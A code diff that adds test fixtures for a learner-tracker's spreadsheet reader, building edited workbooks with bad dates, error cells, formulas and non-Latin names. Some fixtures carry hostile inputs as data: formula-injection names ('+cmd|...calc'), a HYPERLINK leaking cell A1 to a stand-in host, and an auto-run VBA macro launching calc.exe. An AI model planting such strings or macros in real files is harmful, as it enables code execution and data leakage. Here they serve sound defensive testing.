@@ -35,6 +35,7 @@ from __future__ import annotations
 
 import io
 import random
+import re
 import struct
 import sys
 import zipfile
@@ -422,6 +423,280 @@ def _with_missing_sheet(xlsx: bytes) -> bytes:
     return out.getvalue()
 
 
+
+# --------------------------------------------------------------------------------------------
+# Learner workbooks with bad content (valid xlsx files: the gate lets them through, the reader
+# and the checks must say what is wrong, or find nothing wrong)
+# --------------------------------------------------------------------------------------------
+
+#: every learner workbook in the corpus is made from this record, then edited
+LEARNER_NAME = "Jo Bloggs"
+LEARNER_ULN = "1000000043"
+_WORKBOOK_ID = "00000000-0000-4000-8000-00000000c0de"
+_CREATED = datetime(2024, 9, 2, 9, 0, 0)
+_SAVED = "2024-10-07T12:00:00Z"  # the "modified" time stamped into files openpyxl saves
+_L2 = "603/4687/5"
+
+#: Where the writer puts things in the unit sheets and on the cover (checked by
+#: test_bad_inputs.py against tracker.workbook.layout, so a layout change fails loudly there).
+UNIT1_SHEET = "Unit 1"
+UNIT1_PART = "xl/worksheets/sheet3.xml"  # Cover, Summary, Unit 1, ...
+COVER_PART = "xl/worksheets/sheet1.xml"
+UNIT_HEADER_ROW = 11
+UNIT1_FIRST_ROW = 12  # K1.1; K1.2 and K1.3 follow
+COLUMN = {"evidence_date": "F", "decision": "G", "assessor": "H", "assessor_date": "I", "comments": "N"}
+COVER_NAME_CELL = "B3"
+
+#: names that a spreadsheet would run as formulas if written as formulas (CSV/formula injection)
+INJECTION_NAMES = {
+    "name_equals.xlsx": "=HYPERLINK(\"http://example.invalid/x?\"&A1,\"Click me\")",
+    "name_plus.xlsx": "+cmd|' /C calc'!A0",
+    "name_minus.xlsx": "-2+3+cmd|' /C calc'!A0",
+    "name_at.xlsx": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+NON_LATIN = {
+    "name": "Ελένη Παπαδοπούλου",
+    "assessor": "Иван Петров",
+    "iqa": "محمد علي",
+    "tutor": "王小明",
+    "employer": "Café ☕ 🎉 Ltd",
+}
+
+
+def learner_uln(n: int) -> str:
+    """The n-th valid ULN of the corpus (n = 0 is LEARNER_ULN's family: 100000001x)."""
+    from tracker.identifiers import uln_check_digit
+
+    k = 0
+    while True:
+        first_nine = f"1{n:04d}{k:04d}"
+        digit = uln_check_digit(first_nine)
+        if digit is not None and digit < 10:
+            return first_nine + str(digit)
+        k += 1
+
+
+def learner_record(name: str = LEARNER_NAME, assessor: str = "Sam Assessor", iqa: str = "Ivy Quality",
+                   tutor: str = "Tom Tutor", employer: str = "Castle Motors", uln: str = LEARNER_ULN) -> object:
+    """A Level 2 learner with units 1 and 2 signed off (8 criteria Met) and an evidence log."""
+    from datetime import date
+
+    from tracker.spec.catalogue import load_qualification
+    from tracker.workbook.model import CriterionEntry, EvidenceEntry, Learner, LearnerRecord
+
+    q = load_qualification(_L2)
+    entries = {}
+    evidence = []
+    n = 0
+    for unit in q.units[:2]:
+        for c in unit.criteria:
+            n += 1
+            entries[c.ref] = CriterionEntry(
+                evidence_refs=(f"E{n}",), method="Worksheet", evidence_date=date(2024, 10, 1),
+                decision="Met", assessor=assessor, assessor_date=date(2024, 10, 5))
+            evidence.append(EvidenceEntry(ref=f"E{n}", description=f"Worksheet {n}", method="Worksheet",
+                                          date=date(2024, 10, 1), location=f"Portfolio p.{n}"))
+    learner = Learner(name=name, uln=uln, pathway="face-to-face", registration_date=date(2024, 9, 2),
+                      assessor=assessor, iqa=iqa, tutor=tutor, employer=employer)
+    return LearnerRecord(learner, entries, tuple(evidence))
+
+
+def learner_xlsx(number: int = 0, **names: str) -> bytes:
+    """A real learner workbook from :func:`tracker.workbook.writer.new_workbook`, always the same bytes.
+
+    ``number`` 0 is the learner Jo Bloggs (ULN 1000000043) whose workbook most cases edit; any
+    other number gives a different learner: their own ULN (:func:`learner_uln`) and workbook id.
+    """
+    import tempfile
+
+    from tracker.spec.catalogue import load_qualification
+    from tracker.workbook.writer import new_workbook
+
+    with tempfile.TemporaryDirectory() as d:
+        uln = LEARNER_ULN if number == 0 else learner_uln(number)
+        workbook_id = _WORKBOOK_ID if number == 0 else f"00000000-0000-4000-8000-{number:012d}"
+        path = new_workbook(load_qualification(_L2), learner_record(uln=uln, **names),  # type: ignore[arg-type]
+                            Path(d) / "learner.xlsx", workbook_id=workbook_id, created=_CREATED)
+        return path.read_bytes()
+
+
+def _members(xlsx: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
+        return {info.filename: z.read(info) for info in z.infolist()}
+
+
+def _zip_of(members: dict[str, bytes]) -> bytes:
+    return _plain_zip(members)
+
+
+def _edit_parts(xlsx: bytes, **edits: Callable[[str], str]) -> bytes:
+    """Rewrite some XML parts (keyword: the part name with "/" as "__" and "." as "_")."""
+    members = _members(xlsx)
+    by_key = {name.replace("/", "__").replace(".", "_"): name for name in members}
+    for key, edit in edits.items():
+        name = by_key[key]
+        members[name] = edit(members[name].decode("utf-8")).encode("utf-8")
+    return _zip_of(members)
+
+
+def _col_number(letters: str) -> int:
+    n = 0
+    for ch in letters:
+        n = n * 26 + ord(ch) - 64
+    return n
+
+
+_CELL_RE = re.compile(r'<c r="([A-Z]+)(\d+)"[^>]*?(?:/>|>.*?</c>)', re.S)
+
+
+def set_cell(sheet_xml: str, ref: str, cell_xml: str) -> str:
+    """Put ``cell_xml`` (a whole ``<c r="ref" ...>`` element) at ``ref``, replacing what is there.
+
+    The row must exist (every row of a written table does); cells stay in column order.
+    """
+    m = re.fullmatch(r"([A-Z]+)(\d+)", ref)
+    assert m is not None
+    row_num = m.group(2)
+    row_re = re.compile(rf'(<row r="{row_num}"[^>]*>)(.*?)(</row>)', re.S)
+    row = row_re.search(sheet_xml)
+    assert row is not None, f"row {row_num} not in the sheet"
+    cells = [(c.group(1), c.group(0)) for c in _CELL_RE.finditer(row.group(2)) if c.group(1) != m.group(1)]
+    cells.append((m.group(1), cell_xml))
+    cells.sort(key=lambda c: _col_number(c[0]))
+    return sheet_xml[: row.start(2)] + "".join(x for _, x in cells) + sheet_xml[row.end(2):]
+
+
+def _inline(ref: str, text: str, style: str = "16") -> str:
+    from xml.sax.saxutils import escape
+
+    return f'<c r="{ref}" s="{style}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'
+
+
+def _with_openpyxl(xlsx: bytes, edit: Callable[[object], None] | None = None) -> bytes:
+    """Load ``xlsx`` with openpyxl, apply ``edit`` to the workbook, save: the file an openpyxl
+    script would leave (formulas kept, their cached values dropped). Time stamps are pinned."""
+    import openpyxl
+
+    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
+    if edit is not None:
+        edit(wb)
+    out = io.BytesIO()
+    wb.save(out)
+    members = _members(out.getvalue())
+    members["docProps/core.xml"] = re.sub(
+        rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)", rb"\g<1>" + _SAVED.encode() + rb"\g<2>",
+        members["docProps/core.xml"])
+    return _zip_of(members)
+
+
+def _rename_sheet(workbook_xml: str, old: str, new: str) -> str:
+    """Rename a sheet in workbook.xml, with the defined names (print titles) that refer to it."""
+    from xml.sax.saxutils import escape
+
+    old_q, new_q = f"'{old}'!", "'" + new.replace("'", "''") + "'!"
+    out = workbook_xml.replace(f'<sheet name="{escape(old)}"', f'<sheet name="{escape(new, {chr(34): "&quot;"})}"')
+    return out.replace(escape(old_q, {"'": "&apos;"}), escape(new_q, {"'": "&apos;"})).replace(old_q, new_q)
+
+
+def _delete_unit2(wb: object) -> None:
+    del wb["Unit 2"]  # type: ignore[index]
+
+
+def _merge_across_table(wb: object) -> None:
+    # What a user does to make a note fit: merge from the criterion text across the whole table.
+    wb[UNIT1_SHEET].merge_cells(f"B{UNIT1_FIRST_ROW + 1}:N{UNIT1_FIRST_ROW + 2}")  # type: ignore[index]
+
+
+def macro_project() -> bytes:
+    """A real (source-only) VBA project whose Workbook_Open would start a program: never run."""
+    from tracker.addin.ovba import WORKBOOK_BASE, Module, build_vba_project
+
+    this = Module.document("ThisWorkbook", WORKBOOK_BASE, code=(
+        "Private Sub Workbook_Open()\n"
+        "    Shell \"calc.exe\", vbNormalFocus\n"
+        "End Sub\n"))
+    return build_vba_project([this], project_name="VBAProject")
+
+
+def _add_macros(xlsx: bytes) -> bytes:
+    """Make a learner workbook an .xlsm: vbaProject.bin, its relationship and content types."""
+    members = _members(xlsx)
+    members["xl/vbaProject.bin"] = macro_project()
+    rels = members["xl/_rels/workbook.xml.rels"].decode()
+    rels = rels.replace("</Relationships>", (
+        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
+        'Target="vbaProject.bin"/></Relationships>'))
+    members["xl/_rels/workbook.xml.rels"] = rels.encode()
+    types = members["[Content_Types].xml"].decode()
+    types = types.replace(
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
+        "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
+    types = types.replace('<Default Extension="xml"', (
+        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="xml"'))
+    members["[Content_Types].xml"] = types.encode()
+    wbx = members["xl/workbook.xml"].decode()
+    wbx = re.sub(r"<workbookPr([^>]*?)/>", r'<workbookPr codeName="ThisWorkbook"\1/>', wbx, count=1)
+    members["xl/workbook.xml"] = wbx.encode()
+    return _zip_of(members)
+
+
+def learner_corpus() -> dict[str, bytes]:
+    """The workbook-level cases: real learner workbooks, edited."""
+    base = learner_xlsx()
+    r = UNIT1_FIRST_ROW
+    col = COLUMN
+    files: dict[str, bytes] = {}
+    files["learner_good.xlsx"] = base
+    files["unit_sheet_deleted.xlsx"] = _with_openpyxl(base, _delete_unit2)
+    files["unit_sheet_renamed.xlsx"] = _edit_parts(
+        base, xl__workbook_xml=lambda x: _rename_sheet(x, "Unit 2", "Customer service (2)"))
+    files["header_edited.xlsx"] = _edit_parts(
+        base, **{UNIT1_PART.replace("/", "__").replace(".", "_"):
+                 lambda x: set_cell(x, f"{col['decision']}{UNIT_HEADER_ROW}",
+                                    _inline(f"{col['decision']}{UNIT_HEADER_ROW}", "Outcome", "9"))})
+    files["merged_cells.xlsx"] = _with_openpyxl(base, _merge_across_table)
+
+    def text_dates(x: str) -> str:
+        x = set_cell(x, f"{col['evidence_date']}{r}", _inline(f"{col['evidence_date']}{r}", "last Tuesday", "17"))
+        x = set_cell(x, f"{col['assessor_date']}{r}", _inline(f"{col['assessor_date']}{r}", "31/02/2024", "17"))
+        return set_cell(x, f"{col['assessor_date']}{r + 1}", _inline(f"{col['assessor_date']}{r + 1}", "TBC", "17"))
+
+    def error_cells(x: str) -> str:
+        f, g, i = col["evidence_date"], col["decision"], col["assessor_date"]
+        x = set_cell(x, f"{f}{r}", f'<c r="{f}{r}" s="17" t="e"><f>1/0</f><v>#DIV/0!</v></c>')
+        x = set_cell(x, f"{g}{r}", f'<c r="{g}{r}" s="16" t="e"><f>#REF!</f><v>#REF!</v></c>')
+        return set_cell(x, f"{i}{r + 1}", f'<c r="{i}{r + 1}" s="17" t="e"><f>DATEVALUE("soon")</f><v>#VALUE!</v></c>')
+
+    def formulas(x: str) -> str:
+        f, g, n = col["evidence_date"], col["decision"], col["comments"]
+        # =TODAY() with a cached date, as Excel saves it; =A1 in Decision (cached: the sheet title);
+        # a link whose cached text is all a reader may see.
+        x = set_cell(x, f"{f}{r}", f'<c r="{f}{r}" s="17"><f>TODAY()</f><v>45570</v></c>')
+        x = set_cell(x, f"{g}{r}", f'<c r="{g}{r}" s="16" t="str"><f>A1</f><v>Unit 1</v></c>')
+        x = set_cell(x, f"{n}{r}", (
+            f'<c r="{n}{r}" s="16" t="str"><f>HYPERLINK("http://example.invalid/","see notes")</f>'
+            '<v>see notes</v></c>'))
+        # =TODAY() without a cached value (as openpyxl or a script writes it): a blank to a reader.
+        return set_cell(x, f"{f}{r + 1}", f'<c r="{f}{r + 1}" s="17"><f>TODAY()</f></c>')
+
+    unit1 = UNIT1_PART.replace("/", "__").replace(".", "_")
+    files["text_in_dates.xlsx"] = _edit_parts(base, **{unit1: text_dates})
+    files["error_cells.xlsx"] = _edit_parts(base, **{unit1: error_cells})
+    files["formulas_as_values.xlsx"] = _edit_parts(base, **{unit1: formulas})
+    for number, (name, text) in enumerate(INJECTION_NAMES.items(), start=1):
+        files[name] = learner_xlsx(number, name=text)
+    # The name typed as a real formula in Excel: only its cached result is ever read.
+    files["name_real_formula.xlsx"] = _edit_parts(learner_xlsx(5), **{COVER_PART.replace("/", "__").replace(".", "_"): (
+        lambda x: set_cell(x, COVER_NAME_CELL, (
+            f'<c r="{COVER_NAME_CELL}" s="4" t="str"><f>HYPERLINK("http://example.invalid/",'
+            f'"{LEARNER_NAME}")&amp;""</f><v>{LEARNER_NAME}</v></c>')))})
+    files["non_latin.xlsx"] = _edit_parts(
+        learner_xlsx(6, **NON_LATIN), xl__workbook_xml=lambda x: _rename_sheet(x, "Unit 3", "Μονάδα 3 — 単位"))
+    files["learner_macros.xlsm"] = _add_macros(base)
+    files["openpyxl_saved.xlsx"] = _with_openpyxl(base)
+    return files
+
+
 def make_corpus(folder: Path) -> dict[str, Path]:
     """Write every corpus file into ``folder`` (created if needed); return name -> path."""
     folder = Path(folder)
@@ -471,6 +746,7 @@ def make_corpus(folder: Path) -> dict[str, Path]:
     files["huge_rows.xlsx"] = _rezip(base, replace={"xl/worksheets/sheet2.xml": HUGE_ROWS_SHEET})
     files["missing_sheet.xlsx"] = _with_missing_sheet(base)
     files["macros.xlsm"] = small_xlsx(vba_project=cfb({"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n'}))
+    files.update(learner_corpus())
 
     paths: dict[str, Path] = {}
     for name, data in files.items():
